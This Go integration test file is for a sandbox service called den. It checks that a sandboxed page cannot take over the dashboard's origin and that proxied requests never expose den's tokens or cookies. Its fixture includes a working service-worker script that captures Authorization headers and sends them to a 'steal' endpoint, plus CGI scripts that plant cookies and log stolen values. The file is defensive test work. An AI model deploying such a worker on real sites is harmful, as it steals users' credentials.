package integration

import (
	"encoding/json"
	"io"
	"io/fs"
	"net/http"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/den-dev/den/api"
)

// The files a hostile application serves with busybox httpd: a page (a
// CGI, so that it can set a cookie) that registers a service worker with
// scope "/" and writes to its origin's storage; the worker's script,
// whose server allows that scope; and a place where the worker sends the
// Authorization headers it sees.
var hostileSite = map[string]string{
	"/www/index.html": "public page of site\n",
	"/www/page.html": `<!doctype html><meta charset=utf-8><title>pending</title><body><script>
(async () => {
  let said;
  try {
    const reg = await navigator.serviceWorker.register('sw', {scope: '/'});
    await navigator.serviceWorker.ready;
    said = 'worker registered for ' + reg.scope;
  } catch (e) { said = 'worker refused: ' + e.name + ': ' + e.message; }
  try { localStorage.setItem('planted', '1'); said += '; storage written'; } catch (e) { said += '; storage refused'; }
  document.body.textContent = said;
  document.title = 'done';
})();
</script>
`,
	"/www/sw.js": `self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', e => {
  const auth = e.request.headers.get('Authorization');
  if (auth) e.waitUntil(fetch(new URL('steal?' + encodeURIComponent(e.request.url + ' ' + auth), self.location)));
});
`,
	"/www/cgi-bin/page":  "#!/bin/sh\nprintf 'Content-Type: text/html\\r\\nSet-Cookie: planted=1; Path=/\\r\\n\\r\\n'\ncat /www/page.html\n",
	"/www/cgi-bin/sw":    "#!/bin/sh\nprintf 'Content-Type: text/javascript\\r\\nService-Worker-Allowed: /\\r\\nSet-Cookie: worker=1; Path=/\\r\\n\\r\\n'\ncat /www/sw.js\n",
	"/www/cgi-bin/steal": "#!/bin/sh\necho \"$QUERY_STRING\" >> /tmp/stolen\nprintf 'Content-Type: text/plain\\r\\n\\r\\nok\\n'\n",
}

// A page a sandbox serves under dend's own address cannot take over
// dend's origin: in Chromium, its service worker for scope "/" is not
// registered, no worker sees the dashboard's requests (nor their
// Authorization), and its cookies and storage writes do not land on
// dend's origin (js/port_worker_scenario.mjs).
//
// And links to a public port name the sandbox by id: once another owner
// has a sandbox of the same name, the name reaches neither for a caller
// without a token, while the links `den port ls` and the dashboard show
// still work.
func TestPortsPageCannotTakeDashboardOrigin(t *testing.T) {
	if _, err := os.Stat("/usr/bin/chromium"); err != nil {
		t.Fatal("Debian's chromium is not installed: run scripts/test-setup.sh (make test does)")
	}
	r := newPortsRig(t, "alice:owner", "bob:owner")
	asAlice := r.as("alice")
	ctx := ctxT(t, 5*time.Minute)
	sb, err := asAlice.CreateSandbox(ctx, api.CreateSandboxRequest{Name: "site", Image: "busybox", Memory: "256M", Network: &api.NetworkPolicy{Mode: "none"}})
	if err != nil {
		t.Fatal(err)
	}
	for path, body := range hostileSite {
		mode := fs.FileMode(0o644)
		if strings.Contains(path, "/cgi-bin/") {
			mode = 0o755
		}
		r.mustSh(sb.ID, "mkdir -p /www/cgi-bin")
		if err := asAlice.WriteFile(ctx, sb.ID, path, mode, strings.NewReader(body)); err != nil {
			t.Fatalf("writing %s: %v", path, err)
		}
	}
	if _, err := r.c.ExecDetached(ctx, sb.ID, api.ExecRequest{Argv: []string{"busybox", "httpd", "-f", "-p", "8080", "-h", "/www"}}); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 30*time.Second, "the CGI page to answer", func() bool {
		out, _, code := r.sh(sb.ID, "wget -q -O - http://127.0.0.1:8080/cgi-bin/page")
		return code == 0 && strings.Contains(out, "serviceWorker")
	})
	if _, err := asAlice.ExposePort(ctx, sb.ID, 8080, true); err != nil {
		t.Fatal(err)
	}

	// A link by name works while the name is alice's alone.
	byName := r.proxyURL("site", 8080, "")
	if status, body := r.get("", "GET", byName, nil); status != 200 || body != "public page of site\n" {
		t.Fatalf("by name, the name unshared: %d %q", status, body)
	}
	if _, err := r.as("bob").CreateSandbox(ctx, api.CreateSandboxRequest{Name: "site", Image: "busybox", Memory: "256M", Network: &api.NetworkPolicy{Mode: "none"}}); err != nil {
		t.Fatal(err)
	}
	if status, _ := r.get("", "GET", byName, nil); status != 401 {
		t.Errorf("by a name two owners hold, without a token: %d, want 401", status)
	}
	ls, errs, code := r.denAs([]string{"DEN_HOST=http://" + r.addr, "DEN_TOKEN=" + r.tokens["alice"]}, "", "port", "ls", "site")
	if code != 0 {
		t.Fatalf("den port ls site as alice: exit %d: %s", code, errs)
	}
	lines := strings.Split(strings.TrimSpace(ls), "\n")
	if f := strings.Fields(lines[len(lines)-1]); len(f) != 3 || f[0] != "8080" {
		t.Fatalf("den port ls:\n%s", strings.Join(lines, "\n"))
	} else if status, body := r.get("", "GET", "http://"+r.addr+f[2], nil); status != 200 || body != "public page of site\n" {
		t.Errorf("the link den port ls shows, %s: %d %q", f[2], status, body)
	}

	out := browse(t, 3*time.Minute, []string{"DEN_URL=http://" + r.addr, "PAGE=/v1/sandboxes/" + sb.ID + "/ports/8080/proxy/cgi-bin/page",
		"TOKEN=" + r.tokens["alice"], "SANDBOX=site"}, "port_worker_scenario.mjs")
	if strings.TrimSpace(out) != "ok" {
		t.Errorf("scenario:\n%s", out)
	}
	if stolen, _, _ := r.sh(sb.ID, "cat /tmp/stolen 2>/dev/null"); stolen != "" {
		t.Errorf("the sandbox's worker saw the dashboard's requests:\n%s", stolen)
	}
}

// Whatever way a request reaches a sandbox's port (dend's path, the
// ports domain, E2B's PORT-ID host with a traffic token or a den token),
// the application sees none of den's credentials or internal headers:
// busybox httpd's CGI shows it every header as HTTP_*.
func TestPortsKeepDenCredentials(t *testing.T) {
	r := newPortsRig(t, "alice:owner")
	asAlice := r.as("alice")
	ctx := ctxT(t, 3*time.Minute)
	sb, err := asAlice.CreateSandbox(ctx, api.CreateSandboxRequest{Name: "env", Image: "busybox", Memory: "256M", Network: &api.NetworkPolicy{Mode: "none"}})
	if err != nil {
		t.Fatal(err)
	}
	r.mustSh(sb.ID, "mkdir -p /www/cgi-bin")
	cgi := "#!/bin/sh\nprintf 'Content-Type: text/plain\\r\\n\\r\\n'\nenv | grep '^HTTP_' | sort\n"
	if err := asAlice.WriteFile(ctx, sb.ID, "/www/cgi-bin/env", 0o755, strings.NewReader(cgi)); err != nil {
		t.Fatal(err)
	}
	for _, port := range []string{"8080", "8000"} {
		if _, err := r.c.ExecDetached(ctx, sb.ID, api.ExecRequest{Argv: []string{"busybox", "httpd", "-f", "-p", port, "-h", "/www"}}); err != nil {
			t.Fatal(err)
		}
	}
	waitFor(t, 30*time.Second, "the CGI to answer", func() bool {
		out, _, code := r.sh(sb.ID, "wget -q -O - --header 'X-Probe: 1' http://127.0.0.1:8080/cgi-bin/env && wget -q -O - http://127.0.0.1:8000/cgi-bin/env")
		return code == 0 && strings.Contains(out, "HTTP_X_PROBE=1")
	})
	if _, err := asAlice.ExposePort(ctx, sb.ID, 8080, false); err != nil {
		t.Fatal(err)
	}
	// E2B's connect hands out the sandbox's traffic token.
	req, _ := http.NewRequestWithContext(ctx, "POST", "http://"+r.addr+"/sandboxes/"+sb.ID+"/connect", strings.NewReader(`{"timeout":300}`))
	req.Header.Set("X-API-KEY", r.tokens["alice"])
	req.Header.Set("Content-Type", "application/json")
	resp, err := r.http.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	var conn struct{ TrafficAccessToken string }
	err = json.NewDecoder(resp.Body).Decode(&conn)
	resp.Body.Close()
	if err != nil || conn.TrafficAccessToken == "" {
		t.Fatalf("E2B connect: %d %v %+v", resp.StatusCode, err, conn)
	}

	den := map[string]string{
		"X-Access-Token":         "den-secret-access",
		"X-Api-Key":              r.tokens["alice"],
		"Sec-WebSocket-Protocol": "app.v1, " + api.TokenSubprotocolPrefix + r.tokens["alice"],
		"Cookie":                 "app=1; den_port_signature=1.secret",
		"Den-Cluster-Key":        "not-the-fleet's",
		"X-Mine":                 "kept",
	}
	e2bHost := "8000-" + sb.ID + ".e2b.localhost:" + strings.Split(r.addr, ":")[1]
	for _, tc := range []struct {
		what, url string
		creds     map[string]string
	}{
		{"dend's path", r.proxyURL(sb.ID, 8080, "cgi-bin/env"), map[string]string{"Authorization": "Bearer " + r.tokens["alice"]}},
		{"the ports domain", "http://8080-" + sb.ID + "." + portsDomain + "/cgi-bin/env", map[string]string{"Authorization": "Bearer " + r.tokens["alice"]}},
		{"E2B's host, traffic token", "http://" + e2bHost + "/cgi-bin/env", map[string]string{"E2b-Traffic-Access-Token": conn.TrafficAccessToken}},
		{"E2B's host, den token", "http://" + e2bHost + "/cgi-bin/env", map[string]string{"X-Access-Token": r.tokens["alice"]}},
	} {
		req, _ := http.NewRequestWithContext(ctx, "GET", tc.url, nil)
		for k, v := range den {
			req.Header.Set(k, v)
		}
		for k, v := range tc.creds {
			req.Header.Set(k, v)
		}
		resp, err := r.http.Do(req)
		if err != nil {
			t.Fatalf("%s: %v", tc.what, err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		env := string(b)
		if resp.StatusCode != 200 || !strings.Contains(env, "HTTP_X_MINE=kept") {
			t.Errorf("%s: %d %q", tc.what, resp.StatusCode, env)
			continue
		}
		for _, leak := range []string{"AUTHORIZATION", "X_ACCESS_TOKEN", "X_API_KEY", "E2B_TRAFFIC_ACCESS_TOKEN", "DEN_", "den.token", "den_port_signature", "secret",
			r.tokens["alice"], conn.TrafficAccessToken} {
			if strings.Contains(env, leak) {
				t.Errorf("%s: the application saw %q:\n%s", tc.what, leak, env)
			}
		}
		if !strings.Contains(env, "HTTP_SEC_WEBSOCKET_PROTOCOL=app.v1") {
			t.Errorf("%s: the application's own subprotocol was dropped:\n%s", tc.what, env)
		}
	}
}
